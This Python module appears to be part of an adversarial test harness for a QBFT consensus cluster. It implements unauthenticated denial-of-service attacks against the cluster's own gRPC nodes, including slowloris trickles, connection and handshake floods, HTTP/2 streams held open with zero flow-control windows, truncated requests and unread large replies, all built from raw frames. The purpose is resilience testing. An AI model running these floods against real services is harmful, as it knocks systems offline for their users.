"""What anybody can do to a node who can reach its ports, with no key at all."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import Coroutine, Iterable

from attacks.liar import Liar
from grpc import aio

from qbft.client.pinned import PINNED
from qbft.cluster import TLS_NAME
from qbft.wire.v1 import decision_pb2 as pb
from qbft.wire.v1 import messages_pb2 as messages
from qbft.wire.v1.decision_pb2_grpc import DecisionServiceStub

PATH = "/qbft.v1.DecisionService/GetDecision"
PROPOSE_PATH = "/qbft.v1.DecisionService/Propose"
STREAM_PATH = "/qbft.v1.DecisionService/ProposeStream"
UNARY_PATHS = (PATH, PROPOSE_PATH, "/qbft.v1.DecisionService/Watch", "/grpc.health.v1.Health/Check")
REFLECTION_PATH = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW_SIZE = 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME_BYTES = 16_384
REQUEST_BYTES = 1_300_000
HELD_CALLS = 2_048
HELD_CONNECTIONS = 4
POUR_SECONDS = 10
LARGE_BYTES = (1 << 20) - 1_024
UNREAD_CALLS = 400
LORIS_CONNECTIONS = 200
AT_ONCE = 16
LARGE_TOPIC = "attack/unread"


def _addresses(liar: Liar) -> list[tuple[str, int]]:
    """Where the other nodes listen, for clients and for peers."""
    found = []
    for peer in liar.peers:
        validator = liar.cluster.validators[peer]
        for address in (validator.client, validator.peer):
            host, _, port = address.rpartition(":")
            found.append((host.strip("[]"), int(port)))
    return found


def _client_tls(liar: Liar, peer: int) -> ssl.SSLContext:
    """The TLS of a plain client of that node."""
    context = ssl.create_default_context(cadata=liar.cluster.validators[peer].tls_certificate)
    context.set_alpn_protocols(["h2"])
    return context


async def _in_all(work: Iterable[Coroutine[None, None, None]]) -> None:
    """Do all of it at once."""
    async with asyncio.TaskGroup() as tasks:
        for one in work:
            tasks.create_task(one)


async def slow_streams(liar: Liar) -> None:
    """Connections that send the beginning of a handshake, a byte a second, or nothing."""

    async def crawl(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    for byte in b"\x16\x03\x01\x02\x00\x01" * 100:
                        writer.write(bytes([byte]))
                        await writer.drain()
                        if reader.at_eof():
                            break
                        await asyncio.sleep(1)
                finally:
                    writer.close()
            await asyncio.sleep(0.1)

    addresses = _addresses(liar)
    await _in_all(
        [crawl(*a) for a in addresses for _ in range(LORIS_CONNECTIONS // len(addresses))]
    )


async def connection_storm(liar: Liar) -> None:
    """Clients that connect, ask for the status and go, as fast as that can be done."""

    async def come_and_go(peer: int) -> None:
        address = liar.cluster.validators[peer].client
        while True:
            credentials = liar.plain_credentials(peer)
            async with aio.secure_channel(address, credentials, PINNED) as channel:
                with contextlib.suppress(aio.AioRpcError):
                    await DecisionServiceStub(channel).GetStatus(pb.GetStatusRequest(), timeout=5)

    await _in_all([come_and_go(peer) for peer in liar.peers for _ in range(AT_ONCE // 4)])


async def cheap_calls(liar: Liar) -> None:
    """Calls that cost their caller next to nothing, as many as will be answered."""

    async def ask(stub: DecisionServiceStub) -> None:
        while True:
            with contextlib.suppress(aio.AioRpcError):
                await stub.GetStatus(pb.GetStatusRequest(), timeout=5)

    async def connect(peer: int) -> None:
        credentials = liar.plain_credentials(peer)
        address = liar.cluster.validators[peer].client
        own = [*PINNED, ("grpc.use_local_subchannel_pool", 1)]
        async with aio.secure_channel(address, credentials, own) as channel:
            await _in_all([ask(DecisionServiceStub(channel)) for _ in range(AT_ONCE)])

    await _in_all([connect(peer) for peer in liar.peers for _ in range(AT_ONCE // 4)])


async def half_handshakes(liar: Liar) -> None:
    """Connections that are closed before their handshake, as fast as that can be done."""

    async def knock(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                writer.write(b"GET / HTTP/1.1\r\n\r\n")
                writer.close()
            await asyncio.sleep(0.001)

    await _in_all([knock(*address) for address in _addresses(liar)])


async def unread_replies(liar: Liar) -> None:
    """Hundreds of GetDecision for a value of 1 MiB, on connections that take not a byte of it."""
    await _decide_large(liar)
    await _in_all([_never_read(liar, peer) for peer in liar.peers])


async def calls_without_a_request(liar: Liar) -> None:
    """Thousands of calls of each kind that have begun, and whose request never comes."""
    await _in_all([_hold(liar, peer, path, b"") for peer in liar.peers for path in UNARY_PATHS])


async def all_but_the_last_byte(liar: Liar) -> None:
    """Hundreds of requests as large as may be, of which the last byte never comes."""
    request = _framed(bytes(REQUEST_BYTES))[:-1]
    await _in_all([_hold(liar, peer, PROPOSE_PATH, request) for peer in liar.peers])


async def unread_streams(liar: Liar) -> None:
    """Streams that ask for a large decision as often as they can, and take not one of them."""
    await _decide_large(liar)
    proposal = messages.Proposal(
        instance=messages.InstanceId(topic=LARGE_TOPIC, height=0), value=bytes(LARGE_BYTES)
    )
    request = _framed(pb.ProposeStreamRequest(id=1, proposal=proposal).SerializeToString())
    await _in_all([_hold(liar, peer, STREAM_PATH, 8 * request) for peer in liar.peers])


async def no_requests(liar: Liar) -> None:
    """Bytes that are no message, asked of every service, as fast as that can be done."""

    async def babble(peer: int, path: str) -> None:
        credentials = liar.plain_credentials(peer)
        address = liar.cluster.validators[peer].client
        async with aio.secure_channel(address, credentials, PINNED) as channel:
            while True:
                asked = channel.stream_stream(path)(timeout=5)
                with contextlib.suppress(aio.AioRpcError, asyncio.InvalidStateError):
                    await asked.write(b"\xff\xff\xff\x0a")
                    await asked.code()

    paths = (*UNARY_PATHS, STREAM_PATH, REFLECTION_PATH)
    await _in_all([babble(peer, path) for peer in liar.peers for path in paths])


async def _hold(liar: Liar, peer: int, path: str, sent: bytes) -> None:
    """Connections with as many calls as they may have, of which no more is sent than this."""
    host, _, port = liar.cluster.validators[peer].client.rpartition(":")
    context = _client_tls(liar, peer)
    held: list[asyncio.StreamWriter] = []
    try:
        while True:
            with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(
                    host, int(port), ssl=context, server_hostname=TLS_NAME
                )
                held.append(writer)
                await _pour(_Windows(reader, writer), path, sent)
            if len(held) > HELD_CONNECTIONS:
                held.pop(0).close()
            await asyncio.sleep(0.2)
    finally:
        for writer in held:
            writer.close()


async def _pour(windows: _Windows, path: str, sent: bytes) -> None:
    """Begin calls, and send each of them as much as its window lets through."""
    writer = windows.writer
    writer.write(_greeting())
    async with asyncio.timeout(POUR_SECONDS):
        await windows.listen(until_settings=True)
        calls = HELD_CALLS if not sent else UNREAD_CALLS
        left = {2 * number + 1: memoryview(sent) for number in range(calls)}
        for stream in left:
            windows.open(stream)
            writer.write(_frame(HEADERS, END_HEADERS, stream, _headers(path)))
        await writer.drain()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(POUR_SECONDS):
            while True:
                for stream, rest in left.items():
                    while size := windows.take(stream, len(rest)):
                        writer.write(_frame(DATA, 0, stream, bytes(rest[:size])))
                        rest = rest[size:]  # noqa: PLW2901
                    left[stream] = rest
                await writer.drain()
                await windows.listen()


class _Windows:
    """What the other side of a connection takes, as a whole and of each stream (RFC 9113, 5.2)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self._reader = reader
        self._initial = self._whole = 65_535
        self._of: dict[int, int] = {}

    def open(self, stream: int) -> None:
        """A stream begins."""
        self._of[stream] = self._initial

    def take(self, stream: int, size: int) -> int:
        """How much of so much may be sent of a stream now; it is."""
        size = min(size, self._whole, self._of.get(stream, 0), FRAME_BYTES)
        if size > 0:
            self._whole -= size
            self._of[stream] -= size
        return max(size, 0)

    async def listen(self, *, until_settings: bool = False) -> None:
        """Read one frame, or as many as come before the settings of the other side."""
        while True:
            head = await self._reader.readexactly(9)
            payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
            if kind == SETTINGS and not flags & ACK:
                self._set(payload)
                self.writer.write(_frame(SETTINGS, ACK, 0, b""))
            elif kind == PING and not flags & ACK:
                self.writer.write(_frame(PING, ACK, 0, payload))
            elif kind == WINDOW_UPDATE and not stream:
                self._whole += int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE and stream in self._of:
                self._of[stream] += int.from_bytes(payload, "big")
            elif kind == RST_STREAM:
                self._of.pop(stream, None)
            if not until_settings or kind == SETTINGS:
                return

    def _set(self, payload: bytes) -> None:
        for start in range(0, len(payload), 6):
            name, value = payload[start : start + 2], payload[start + 2 : start + 6]
            if int.from_bytes(name, "big") == INITIAL_WINDOW_SIZE:
                self._initial = int.from_bytes(value, "big")


async def _decide_large(liar: Liar) -> None:
    """Have a large value decided, as any client of an open topic may."""
    peer = liar.peers[0]
    proposal = messages.Proposal(
        instance=messages.InstanceId(topic=LARGE_TOPIC, height=0), value=bytes(LARGE_BYTES)
    )
    credentials = liar.plain_credentials(peer)
    address = liar.cluster.validators[peer].client
    async with aio.secure_channel(address, credentials, PINNED) as channel:
        with contextlib.suppress(aio.AioRpcError):
            await DecisionServiceStub(channel).Propose(
                pb.ProposeRequest(proposal=proposal), timeout=60
            )


async def _never_read(liar: Liar, peer: int) -> None:
    host, _, port = liar.cluster.validators[peer].client.rpartition(":")
    request = pb.GetDecisionRequest(instance=messages.InstanceId(topic=LARGE_TOPIC, height=0))
    context = _client_tls(liar, peer)
    writers = []
    try:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection(
                    host, int(port), ssl=context, server_hostname=TLS_NAME, limit=1_024
                )
                writers.append(writer)
                writer.write(_greeting())
                for number in range(UNREAD_CALLS):
                    writer.write(_call(2 * number + 1, request.SerializeToString()))
                await writer.drain()
            if len(writers) > AT_ONCE:
                writers.pop(0).close()
            await asyncio.sleep(0.5)
    finally:
        for writer in writers:
            writer.close()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame of HTTP/2 (RFC 9113, section 4.1)."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _greeting() -> bytes:
    """The preface of a connection on which the other side may send no data at all."""
    window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    return PREFACE + _frame(SETTINGS, 0, 0, window)


def _headers(path: str) -> bytes:
    """Those of a call of gRPC, as literals that are not indexed (RFC 7541, 6.2.2)."""
    headers = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": TLS_NAME,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )


def _framed(message: bytes) -> bytes:
    """A message of gRPC, with its length before it."""
    return b"\x00" + len(message).to_bytes(4, "big") + message


def _call(stream: int, message: bytes) -> bytes:
    """A unary call of gRPC."""
    return _frame(HEADERS, END_HEADERS, stream, _headers(PATH)) + _frame(
        DATA, END_STREAM, stream, _framed(message)
    )
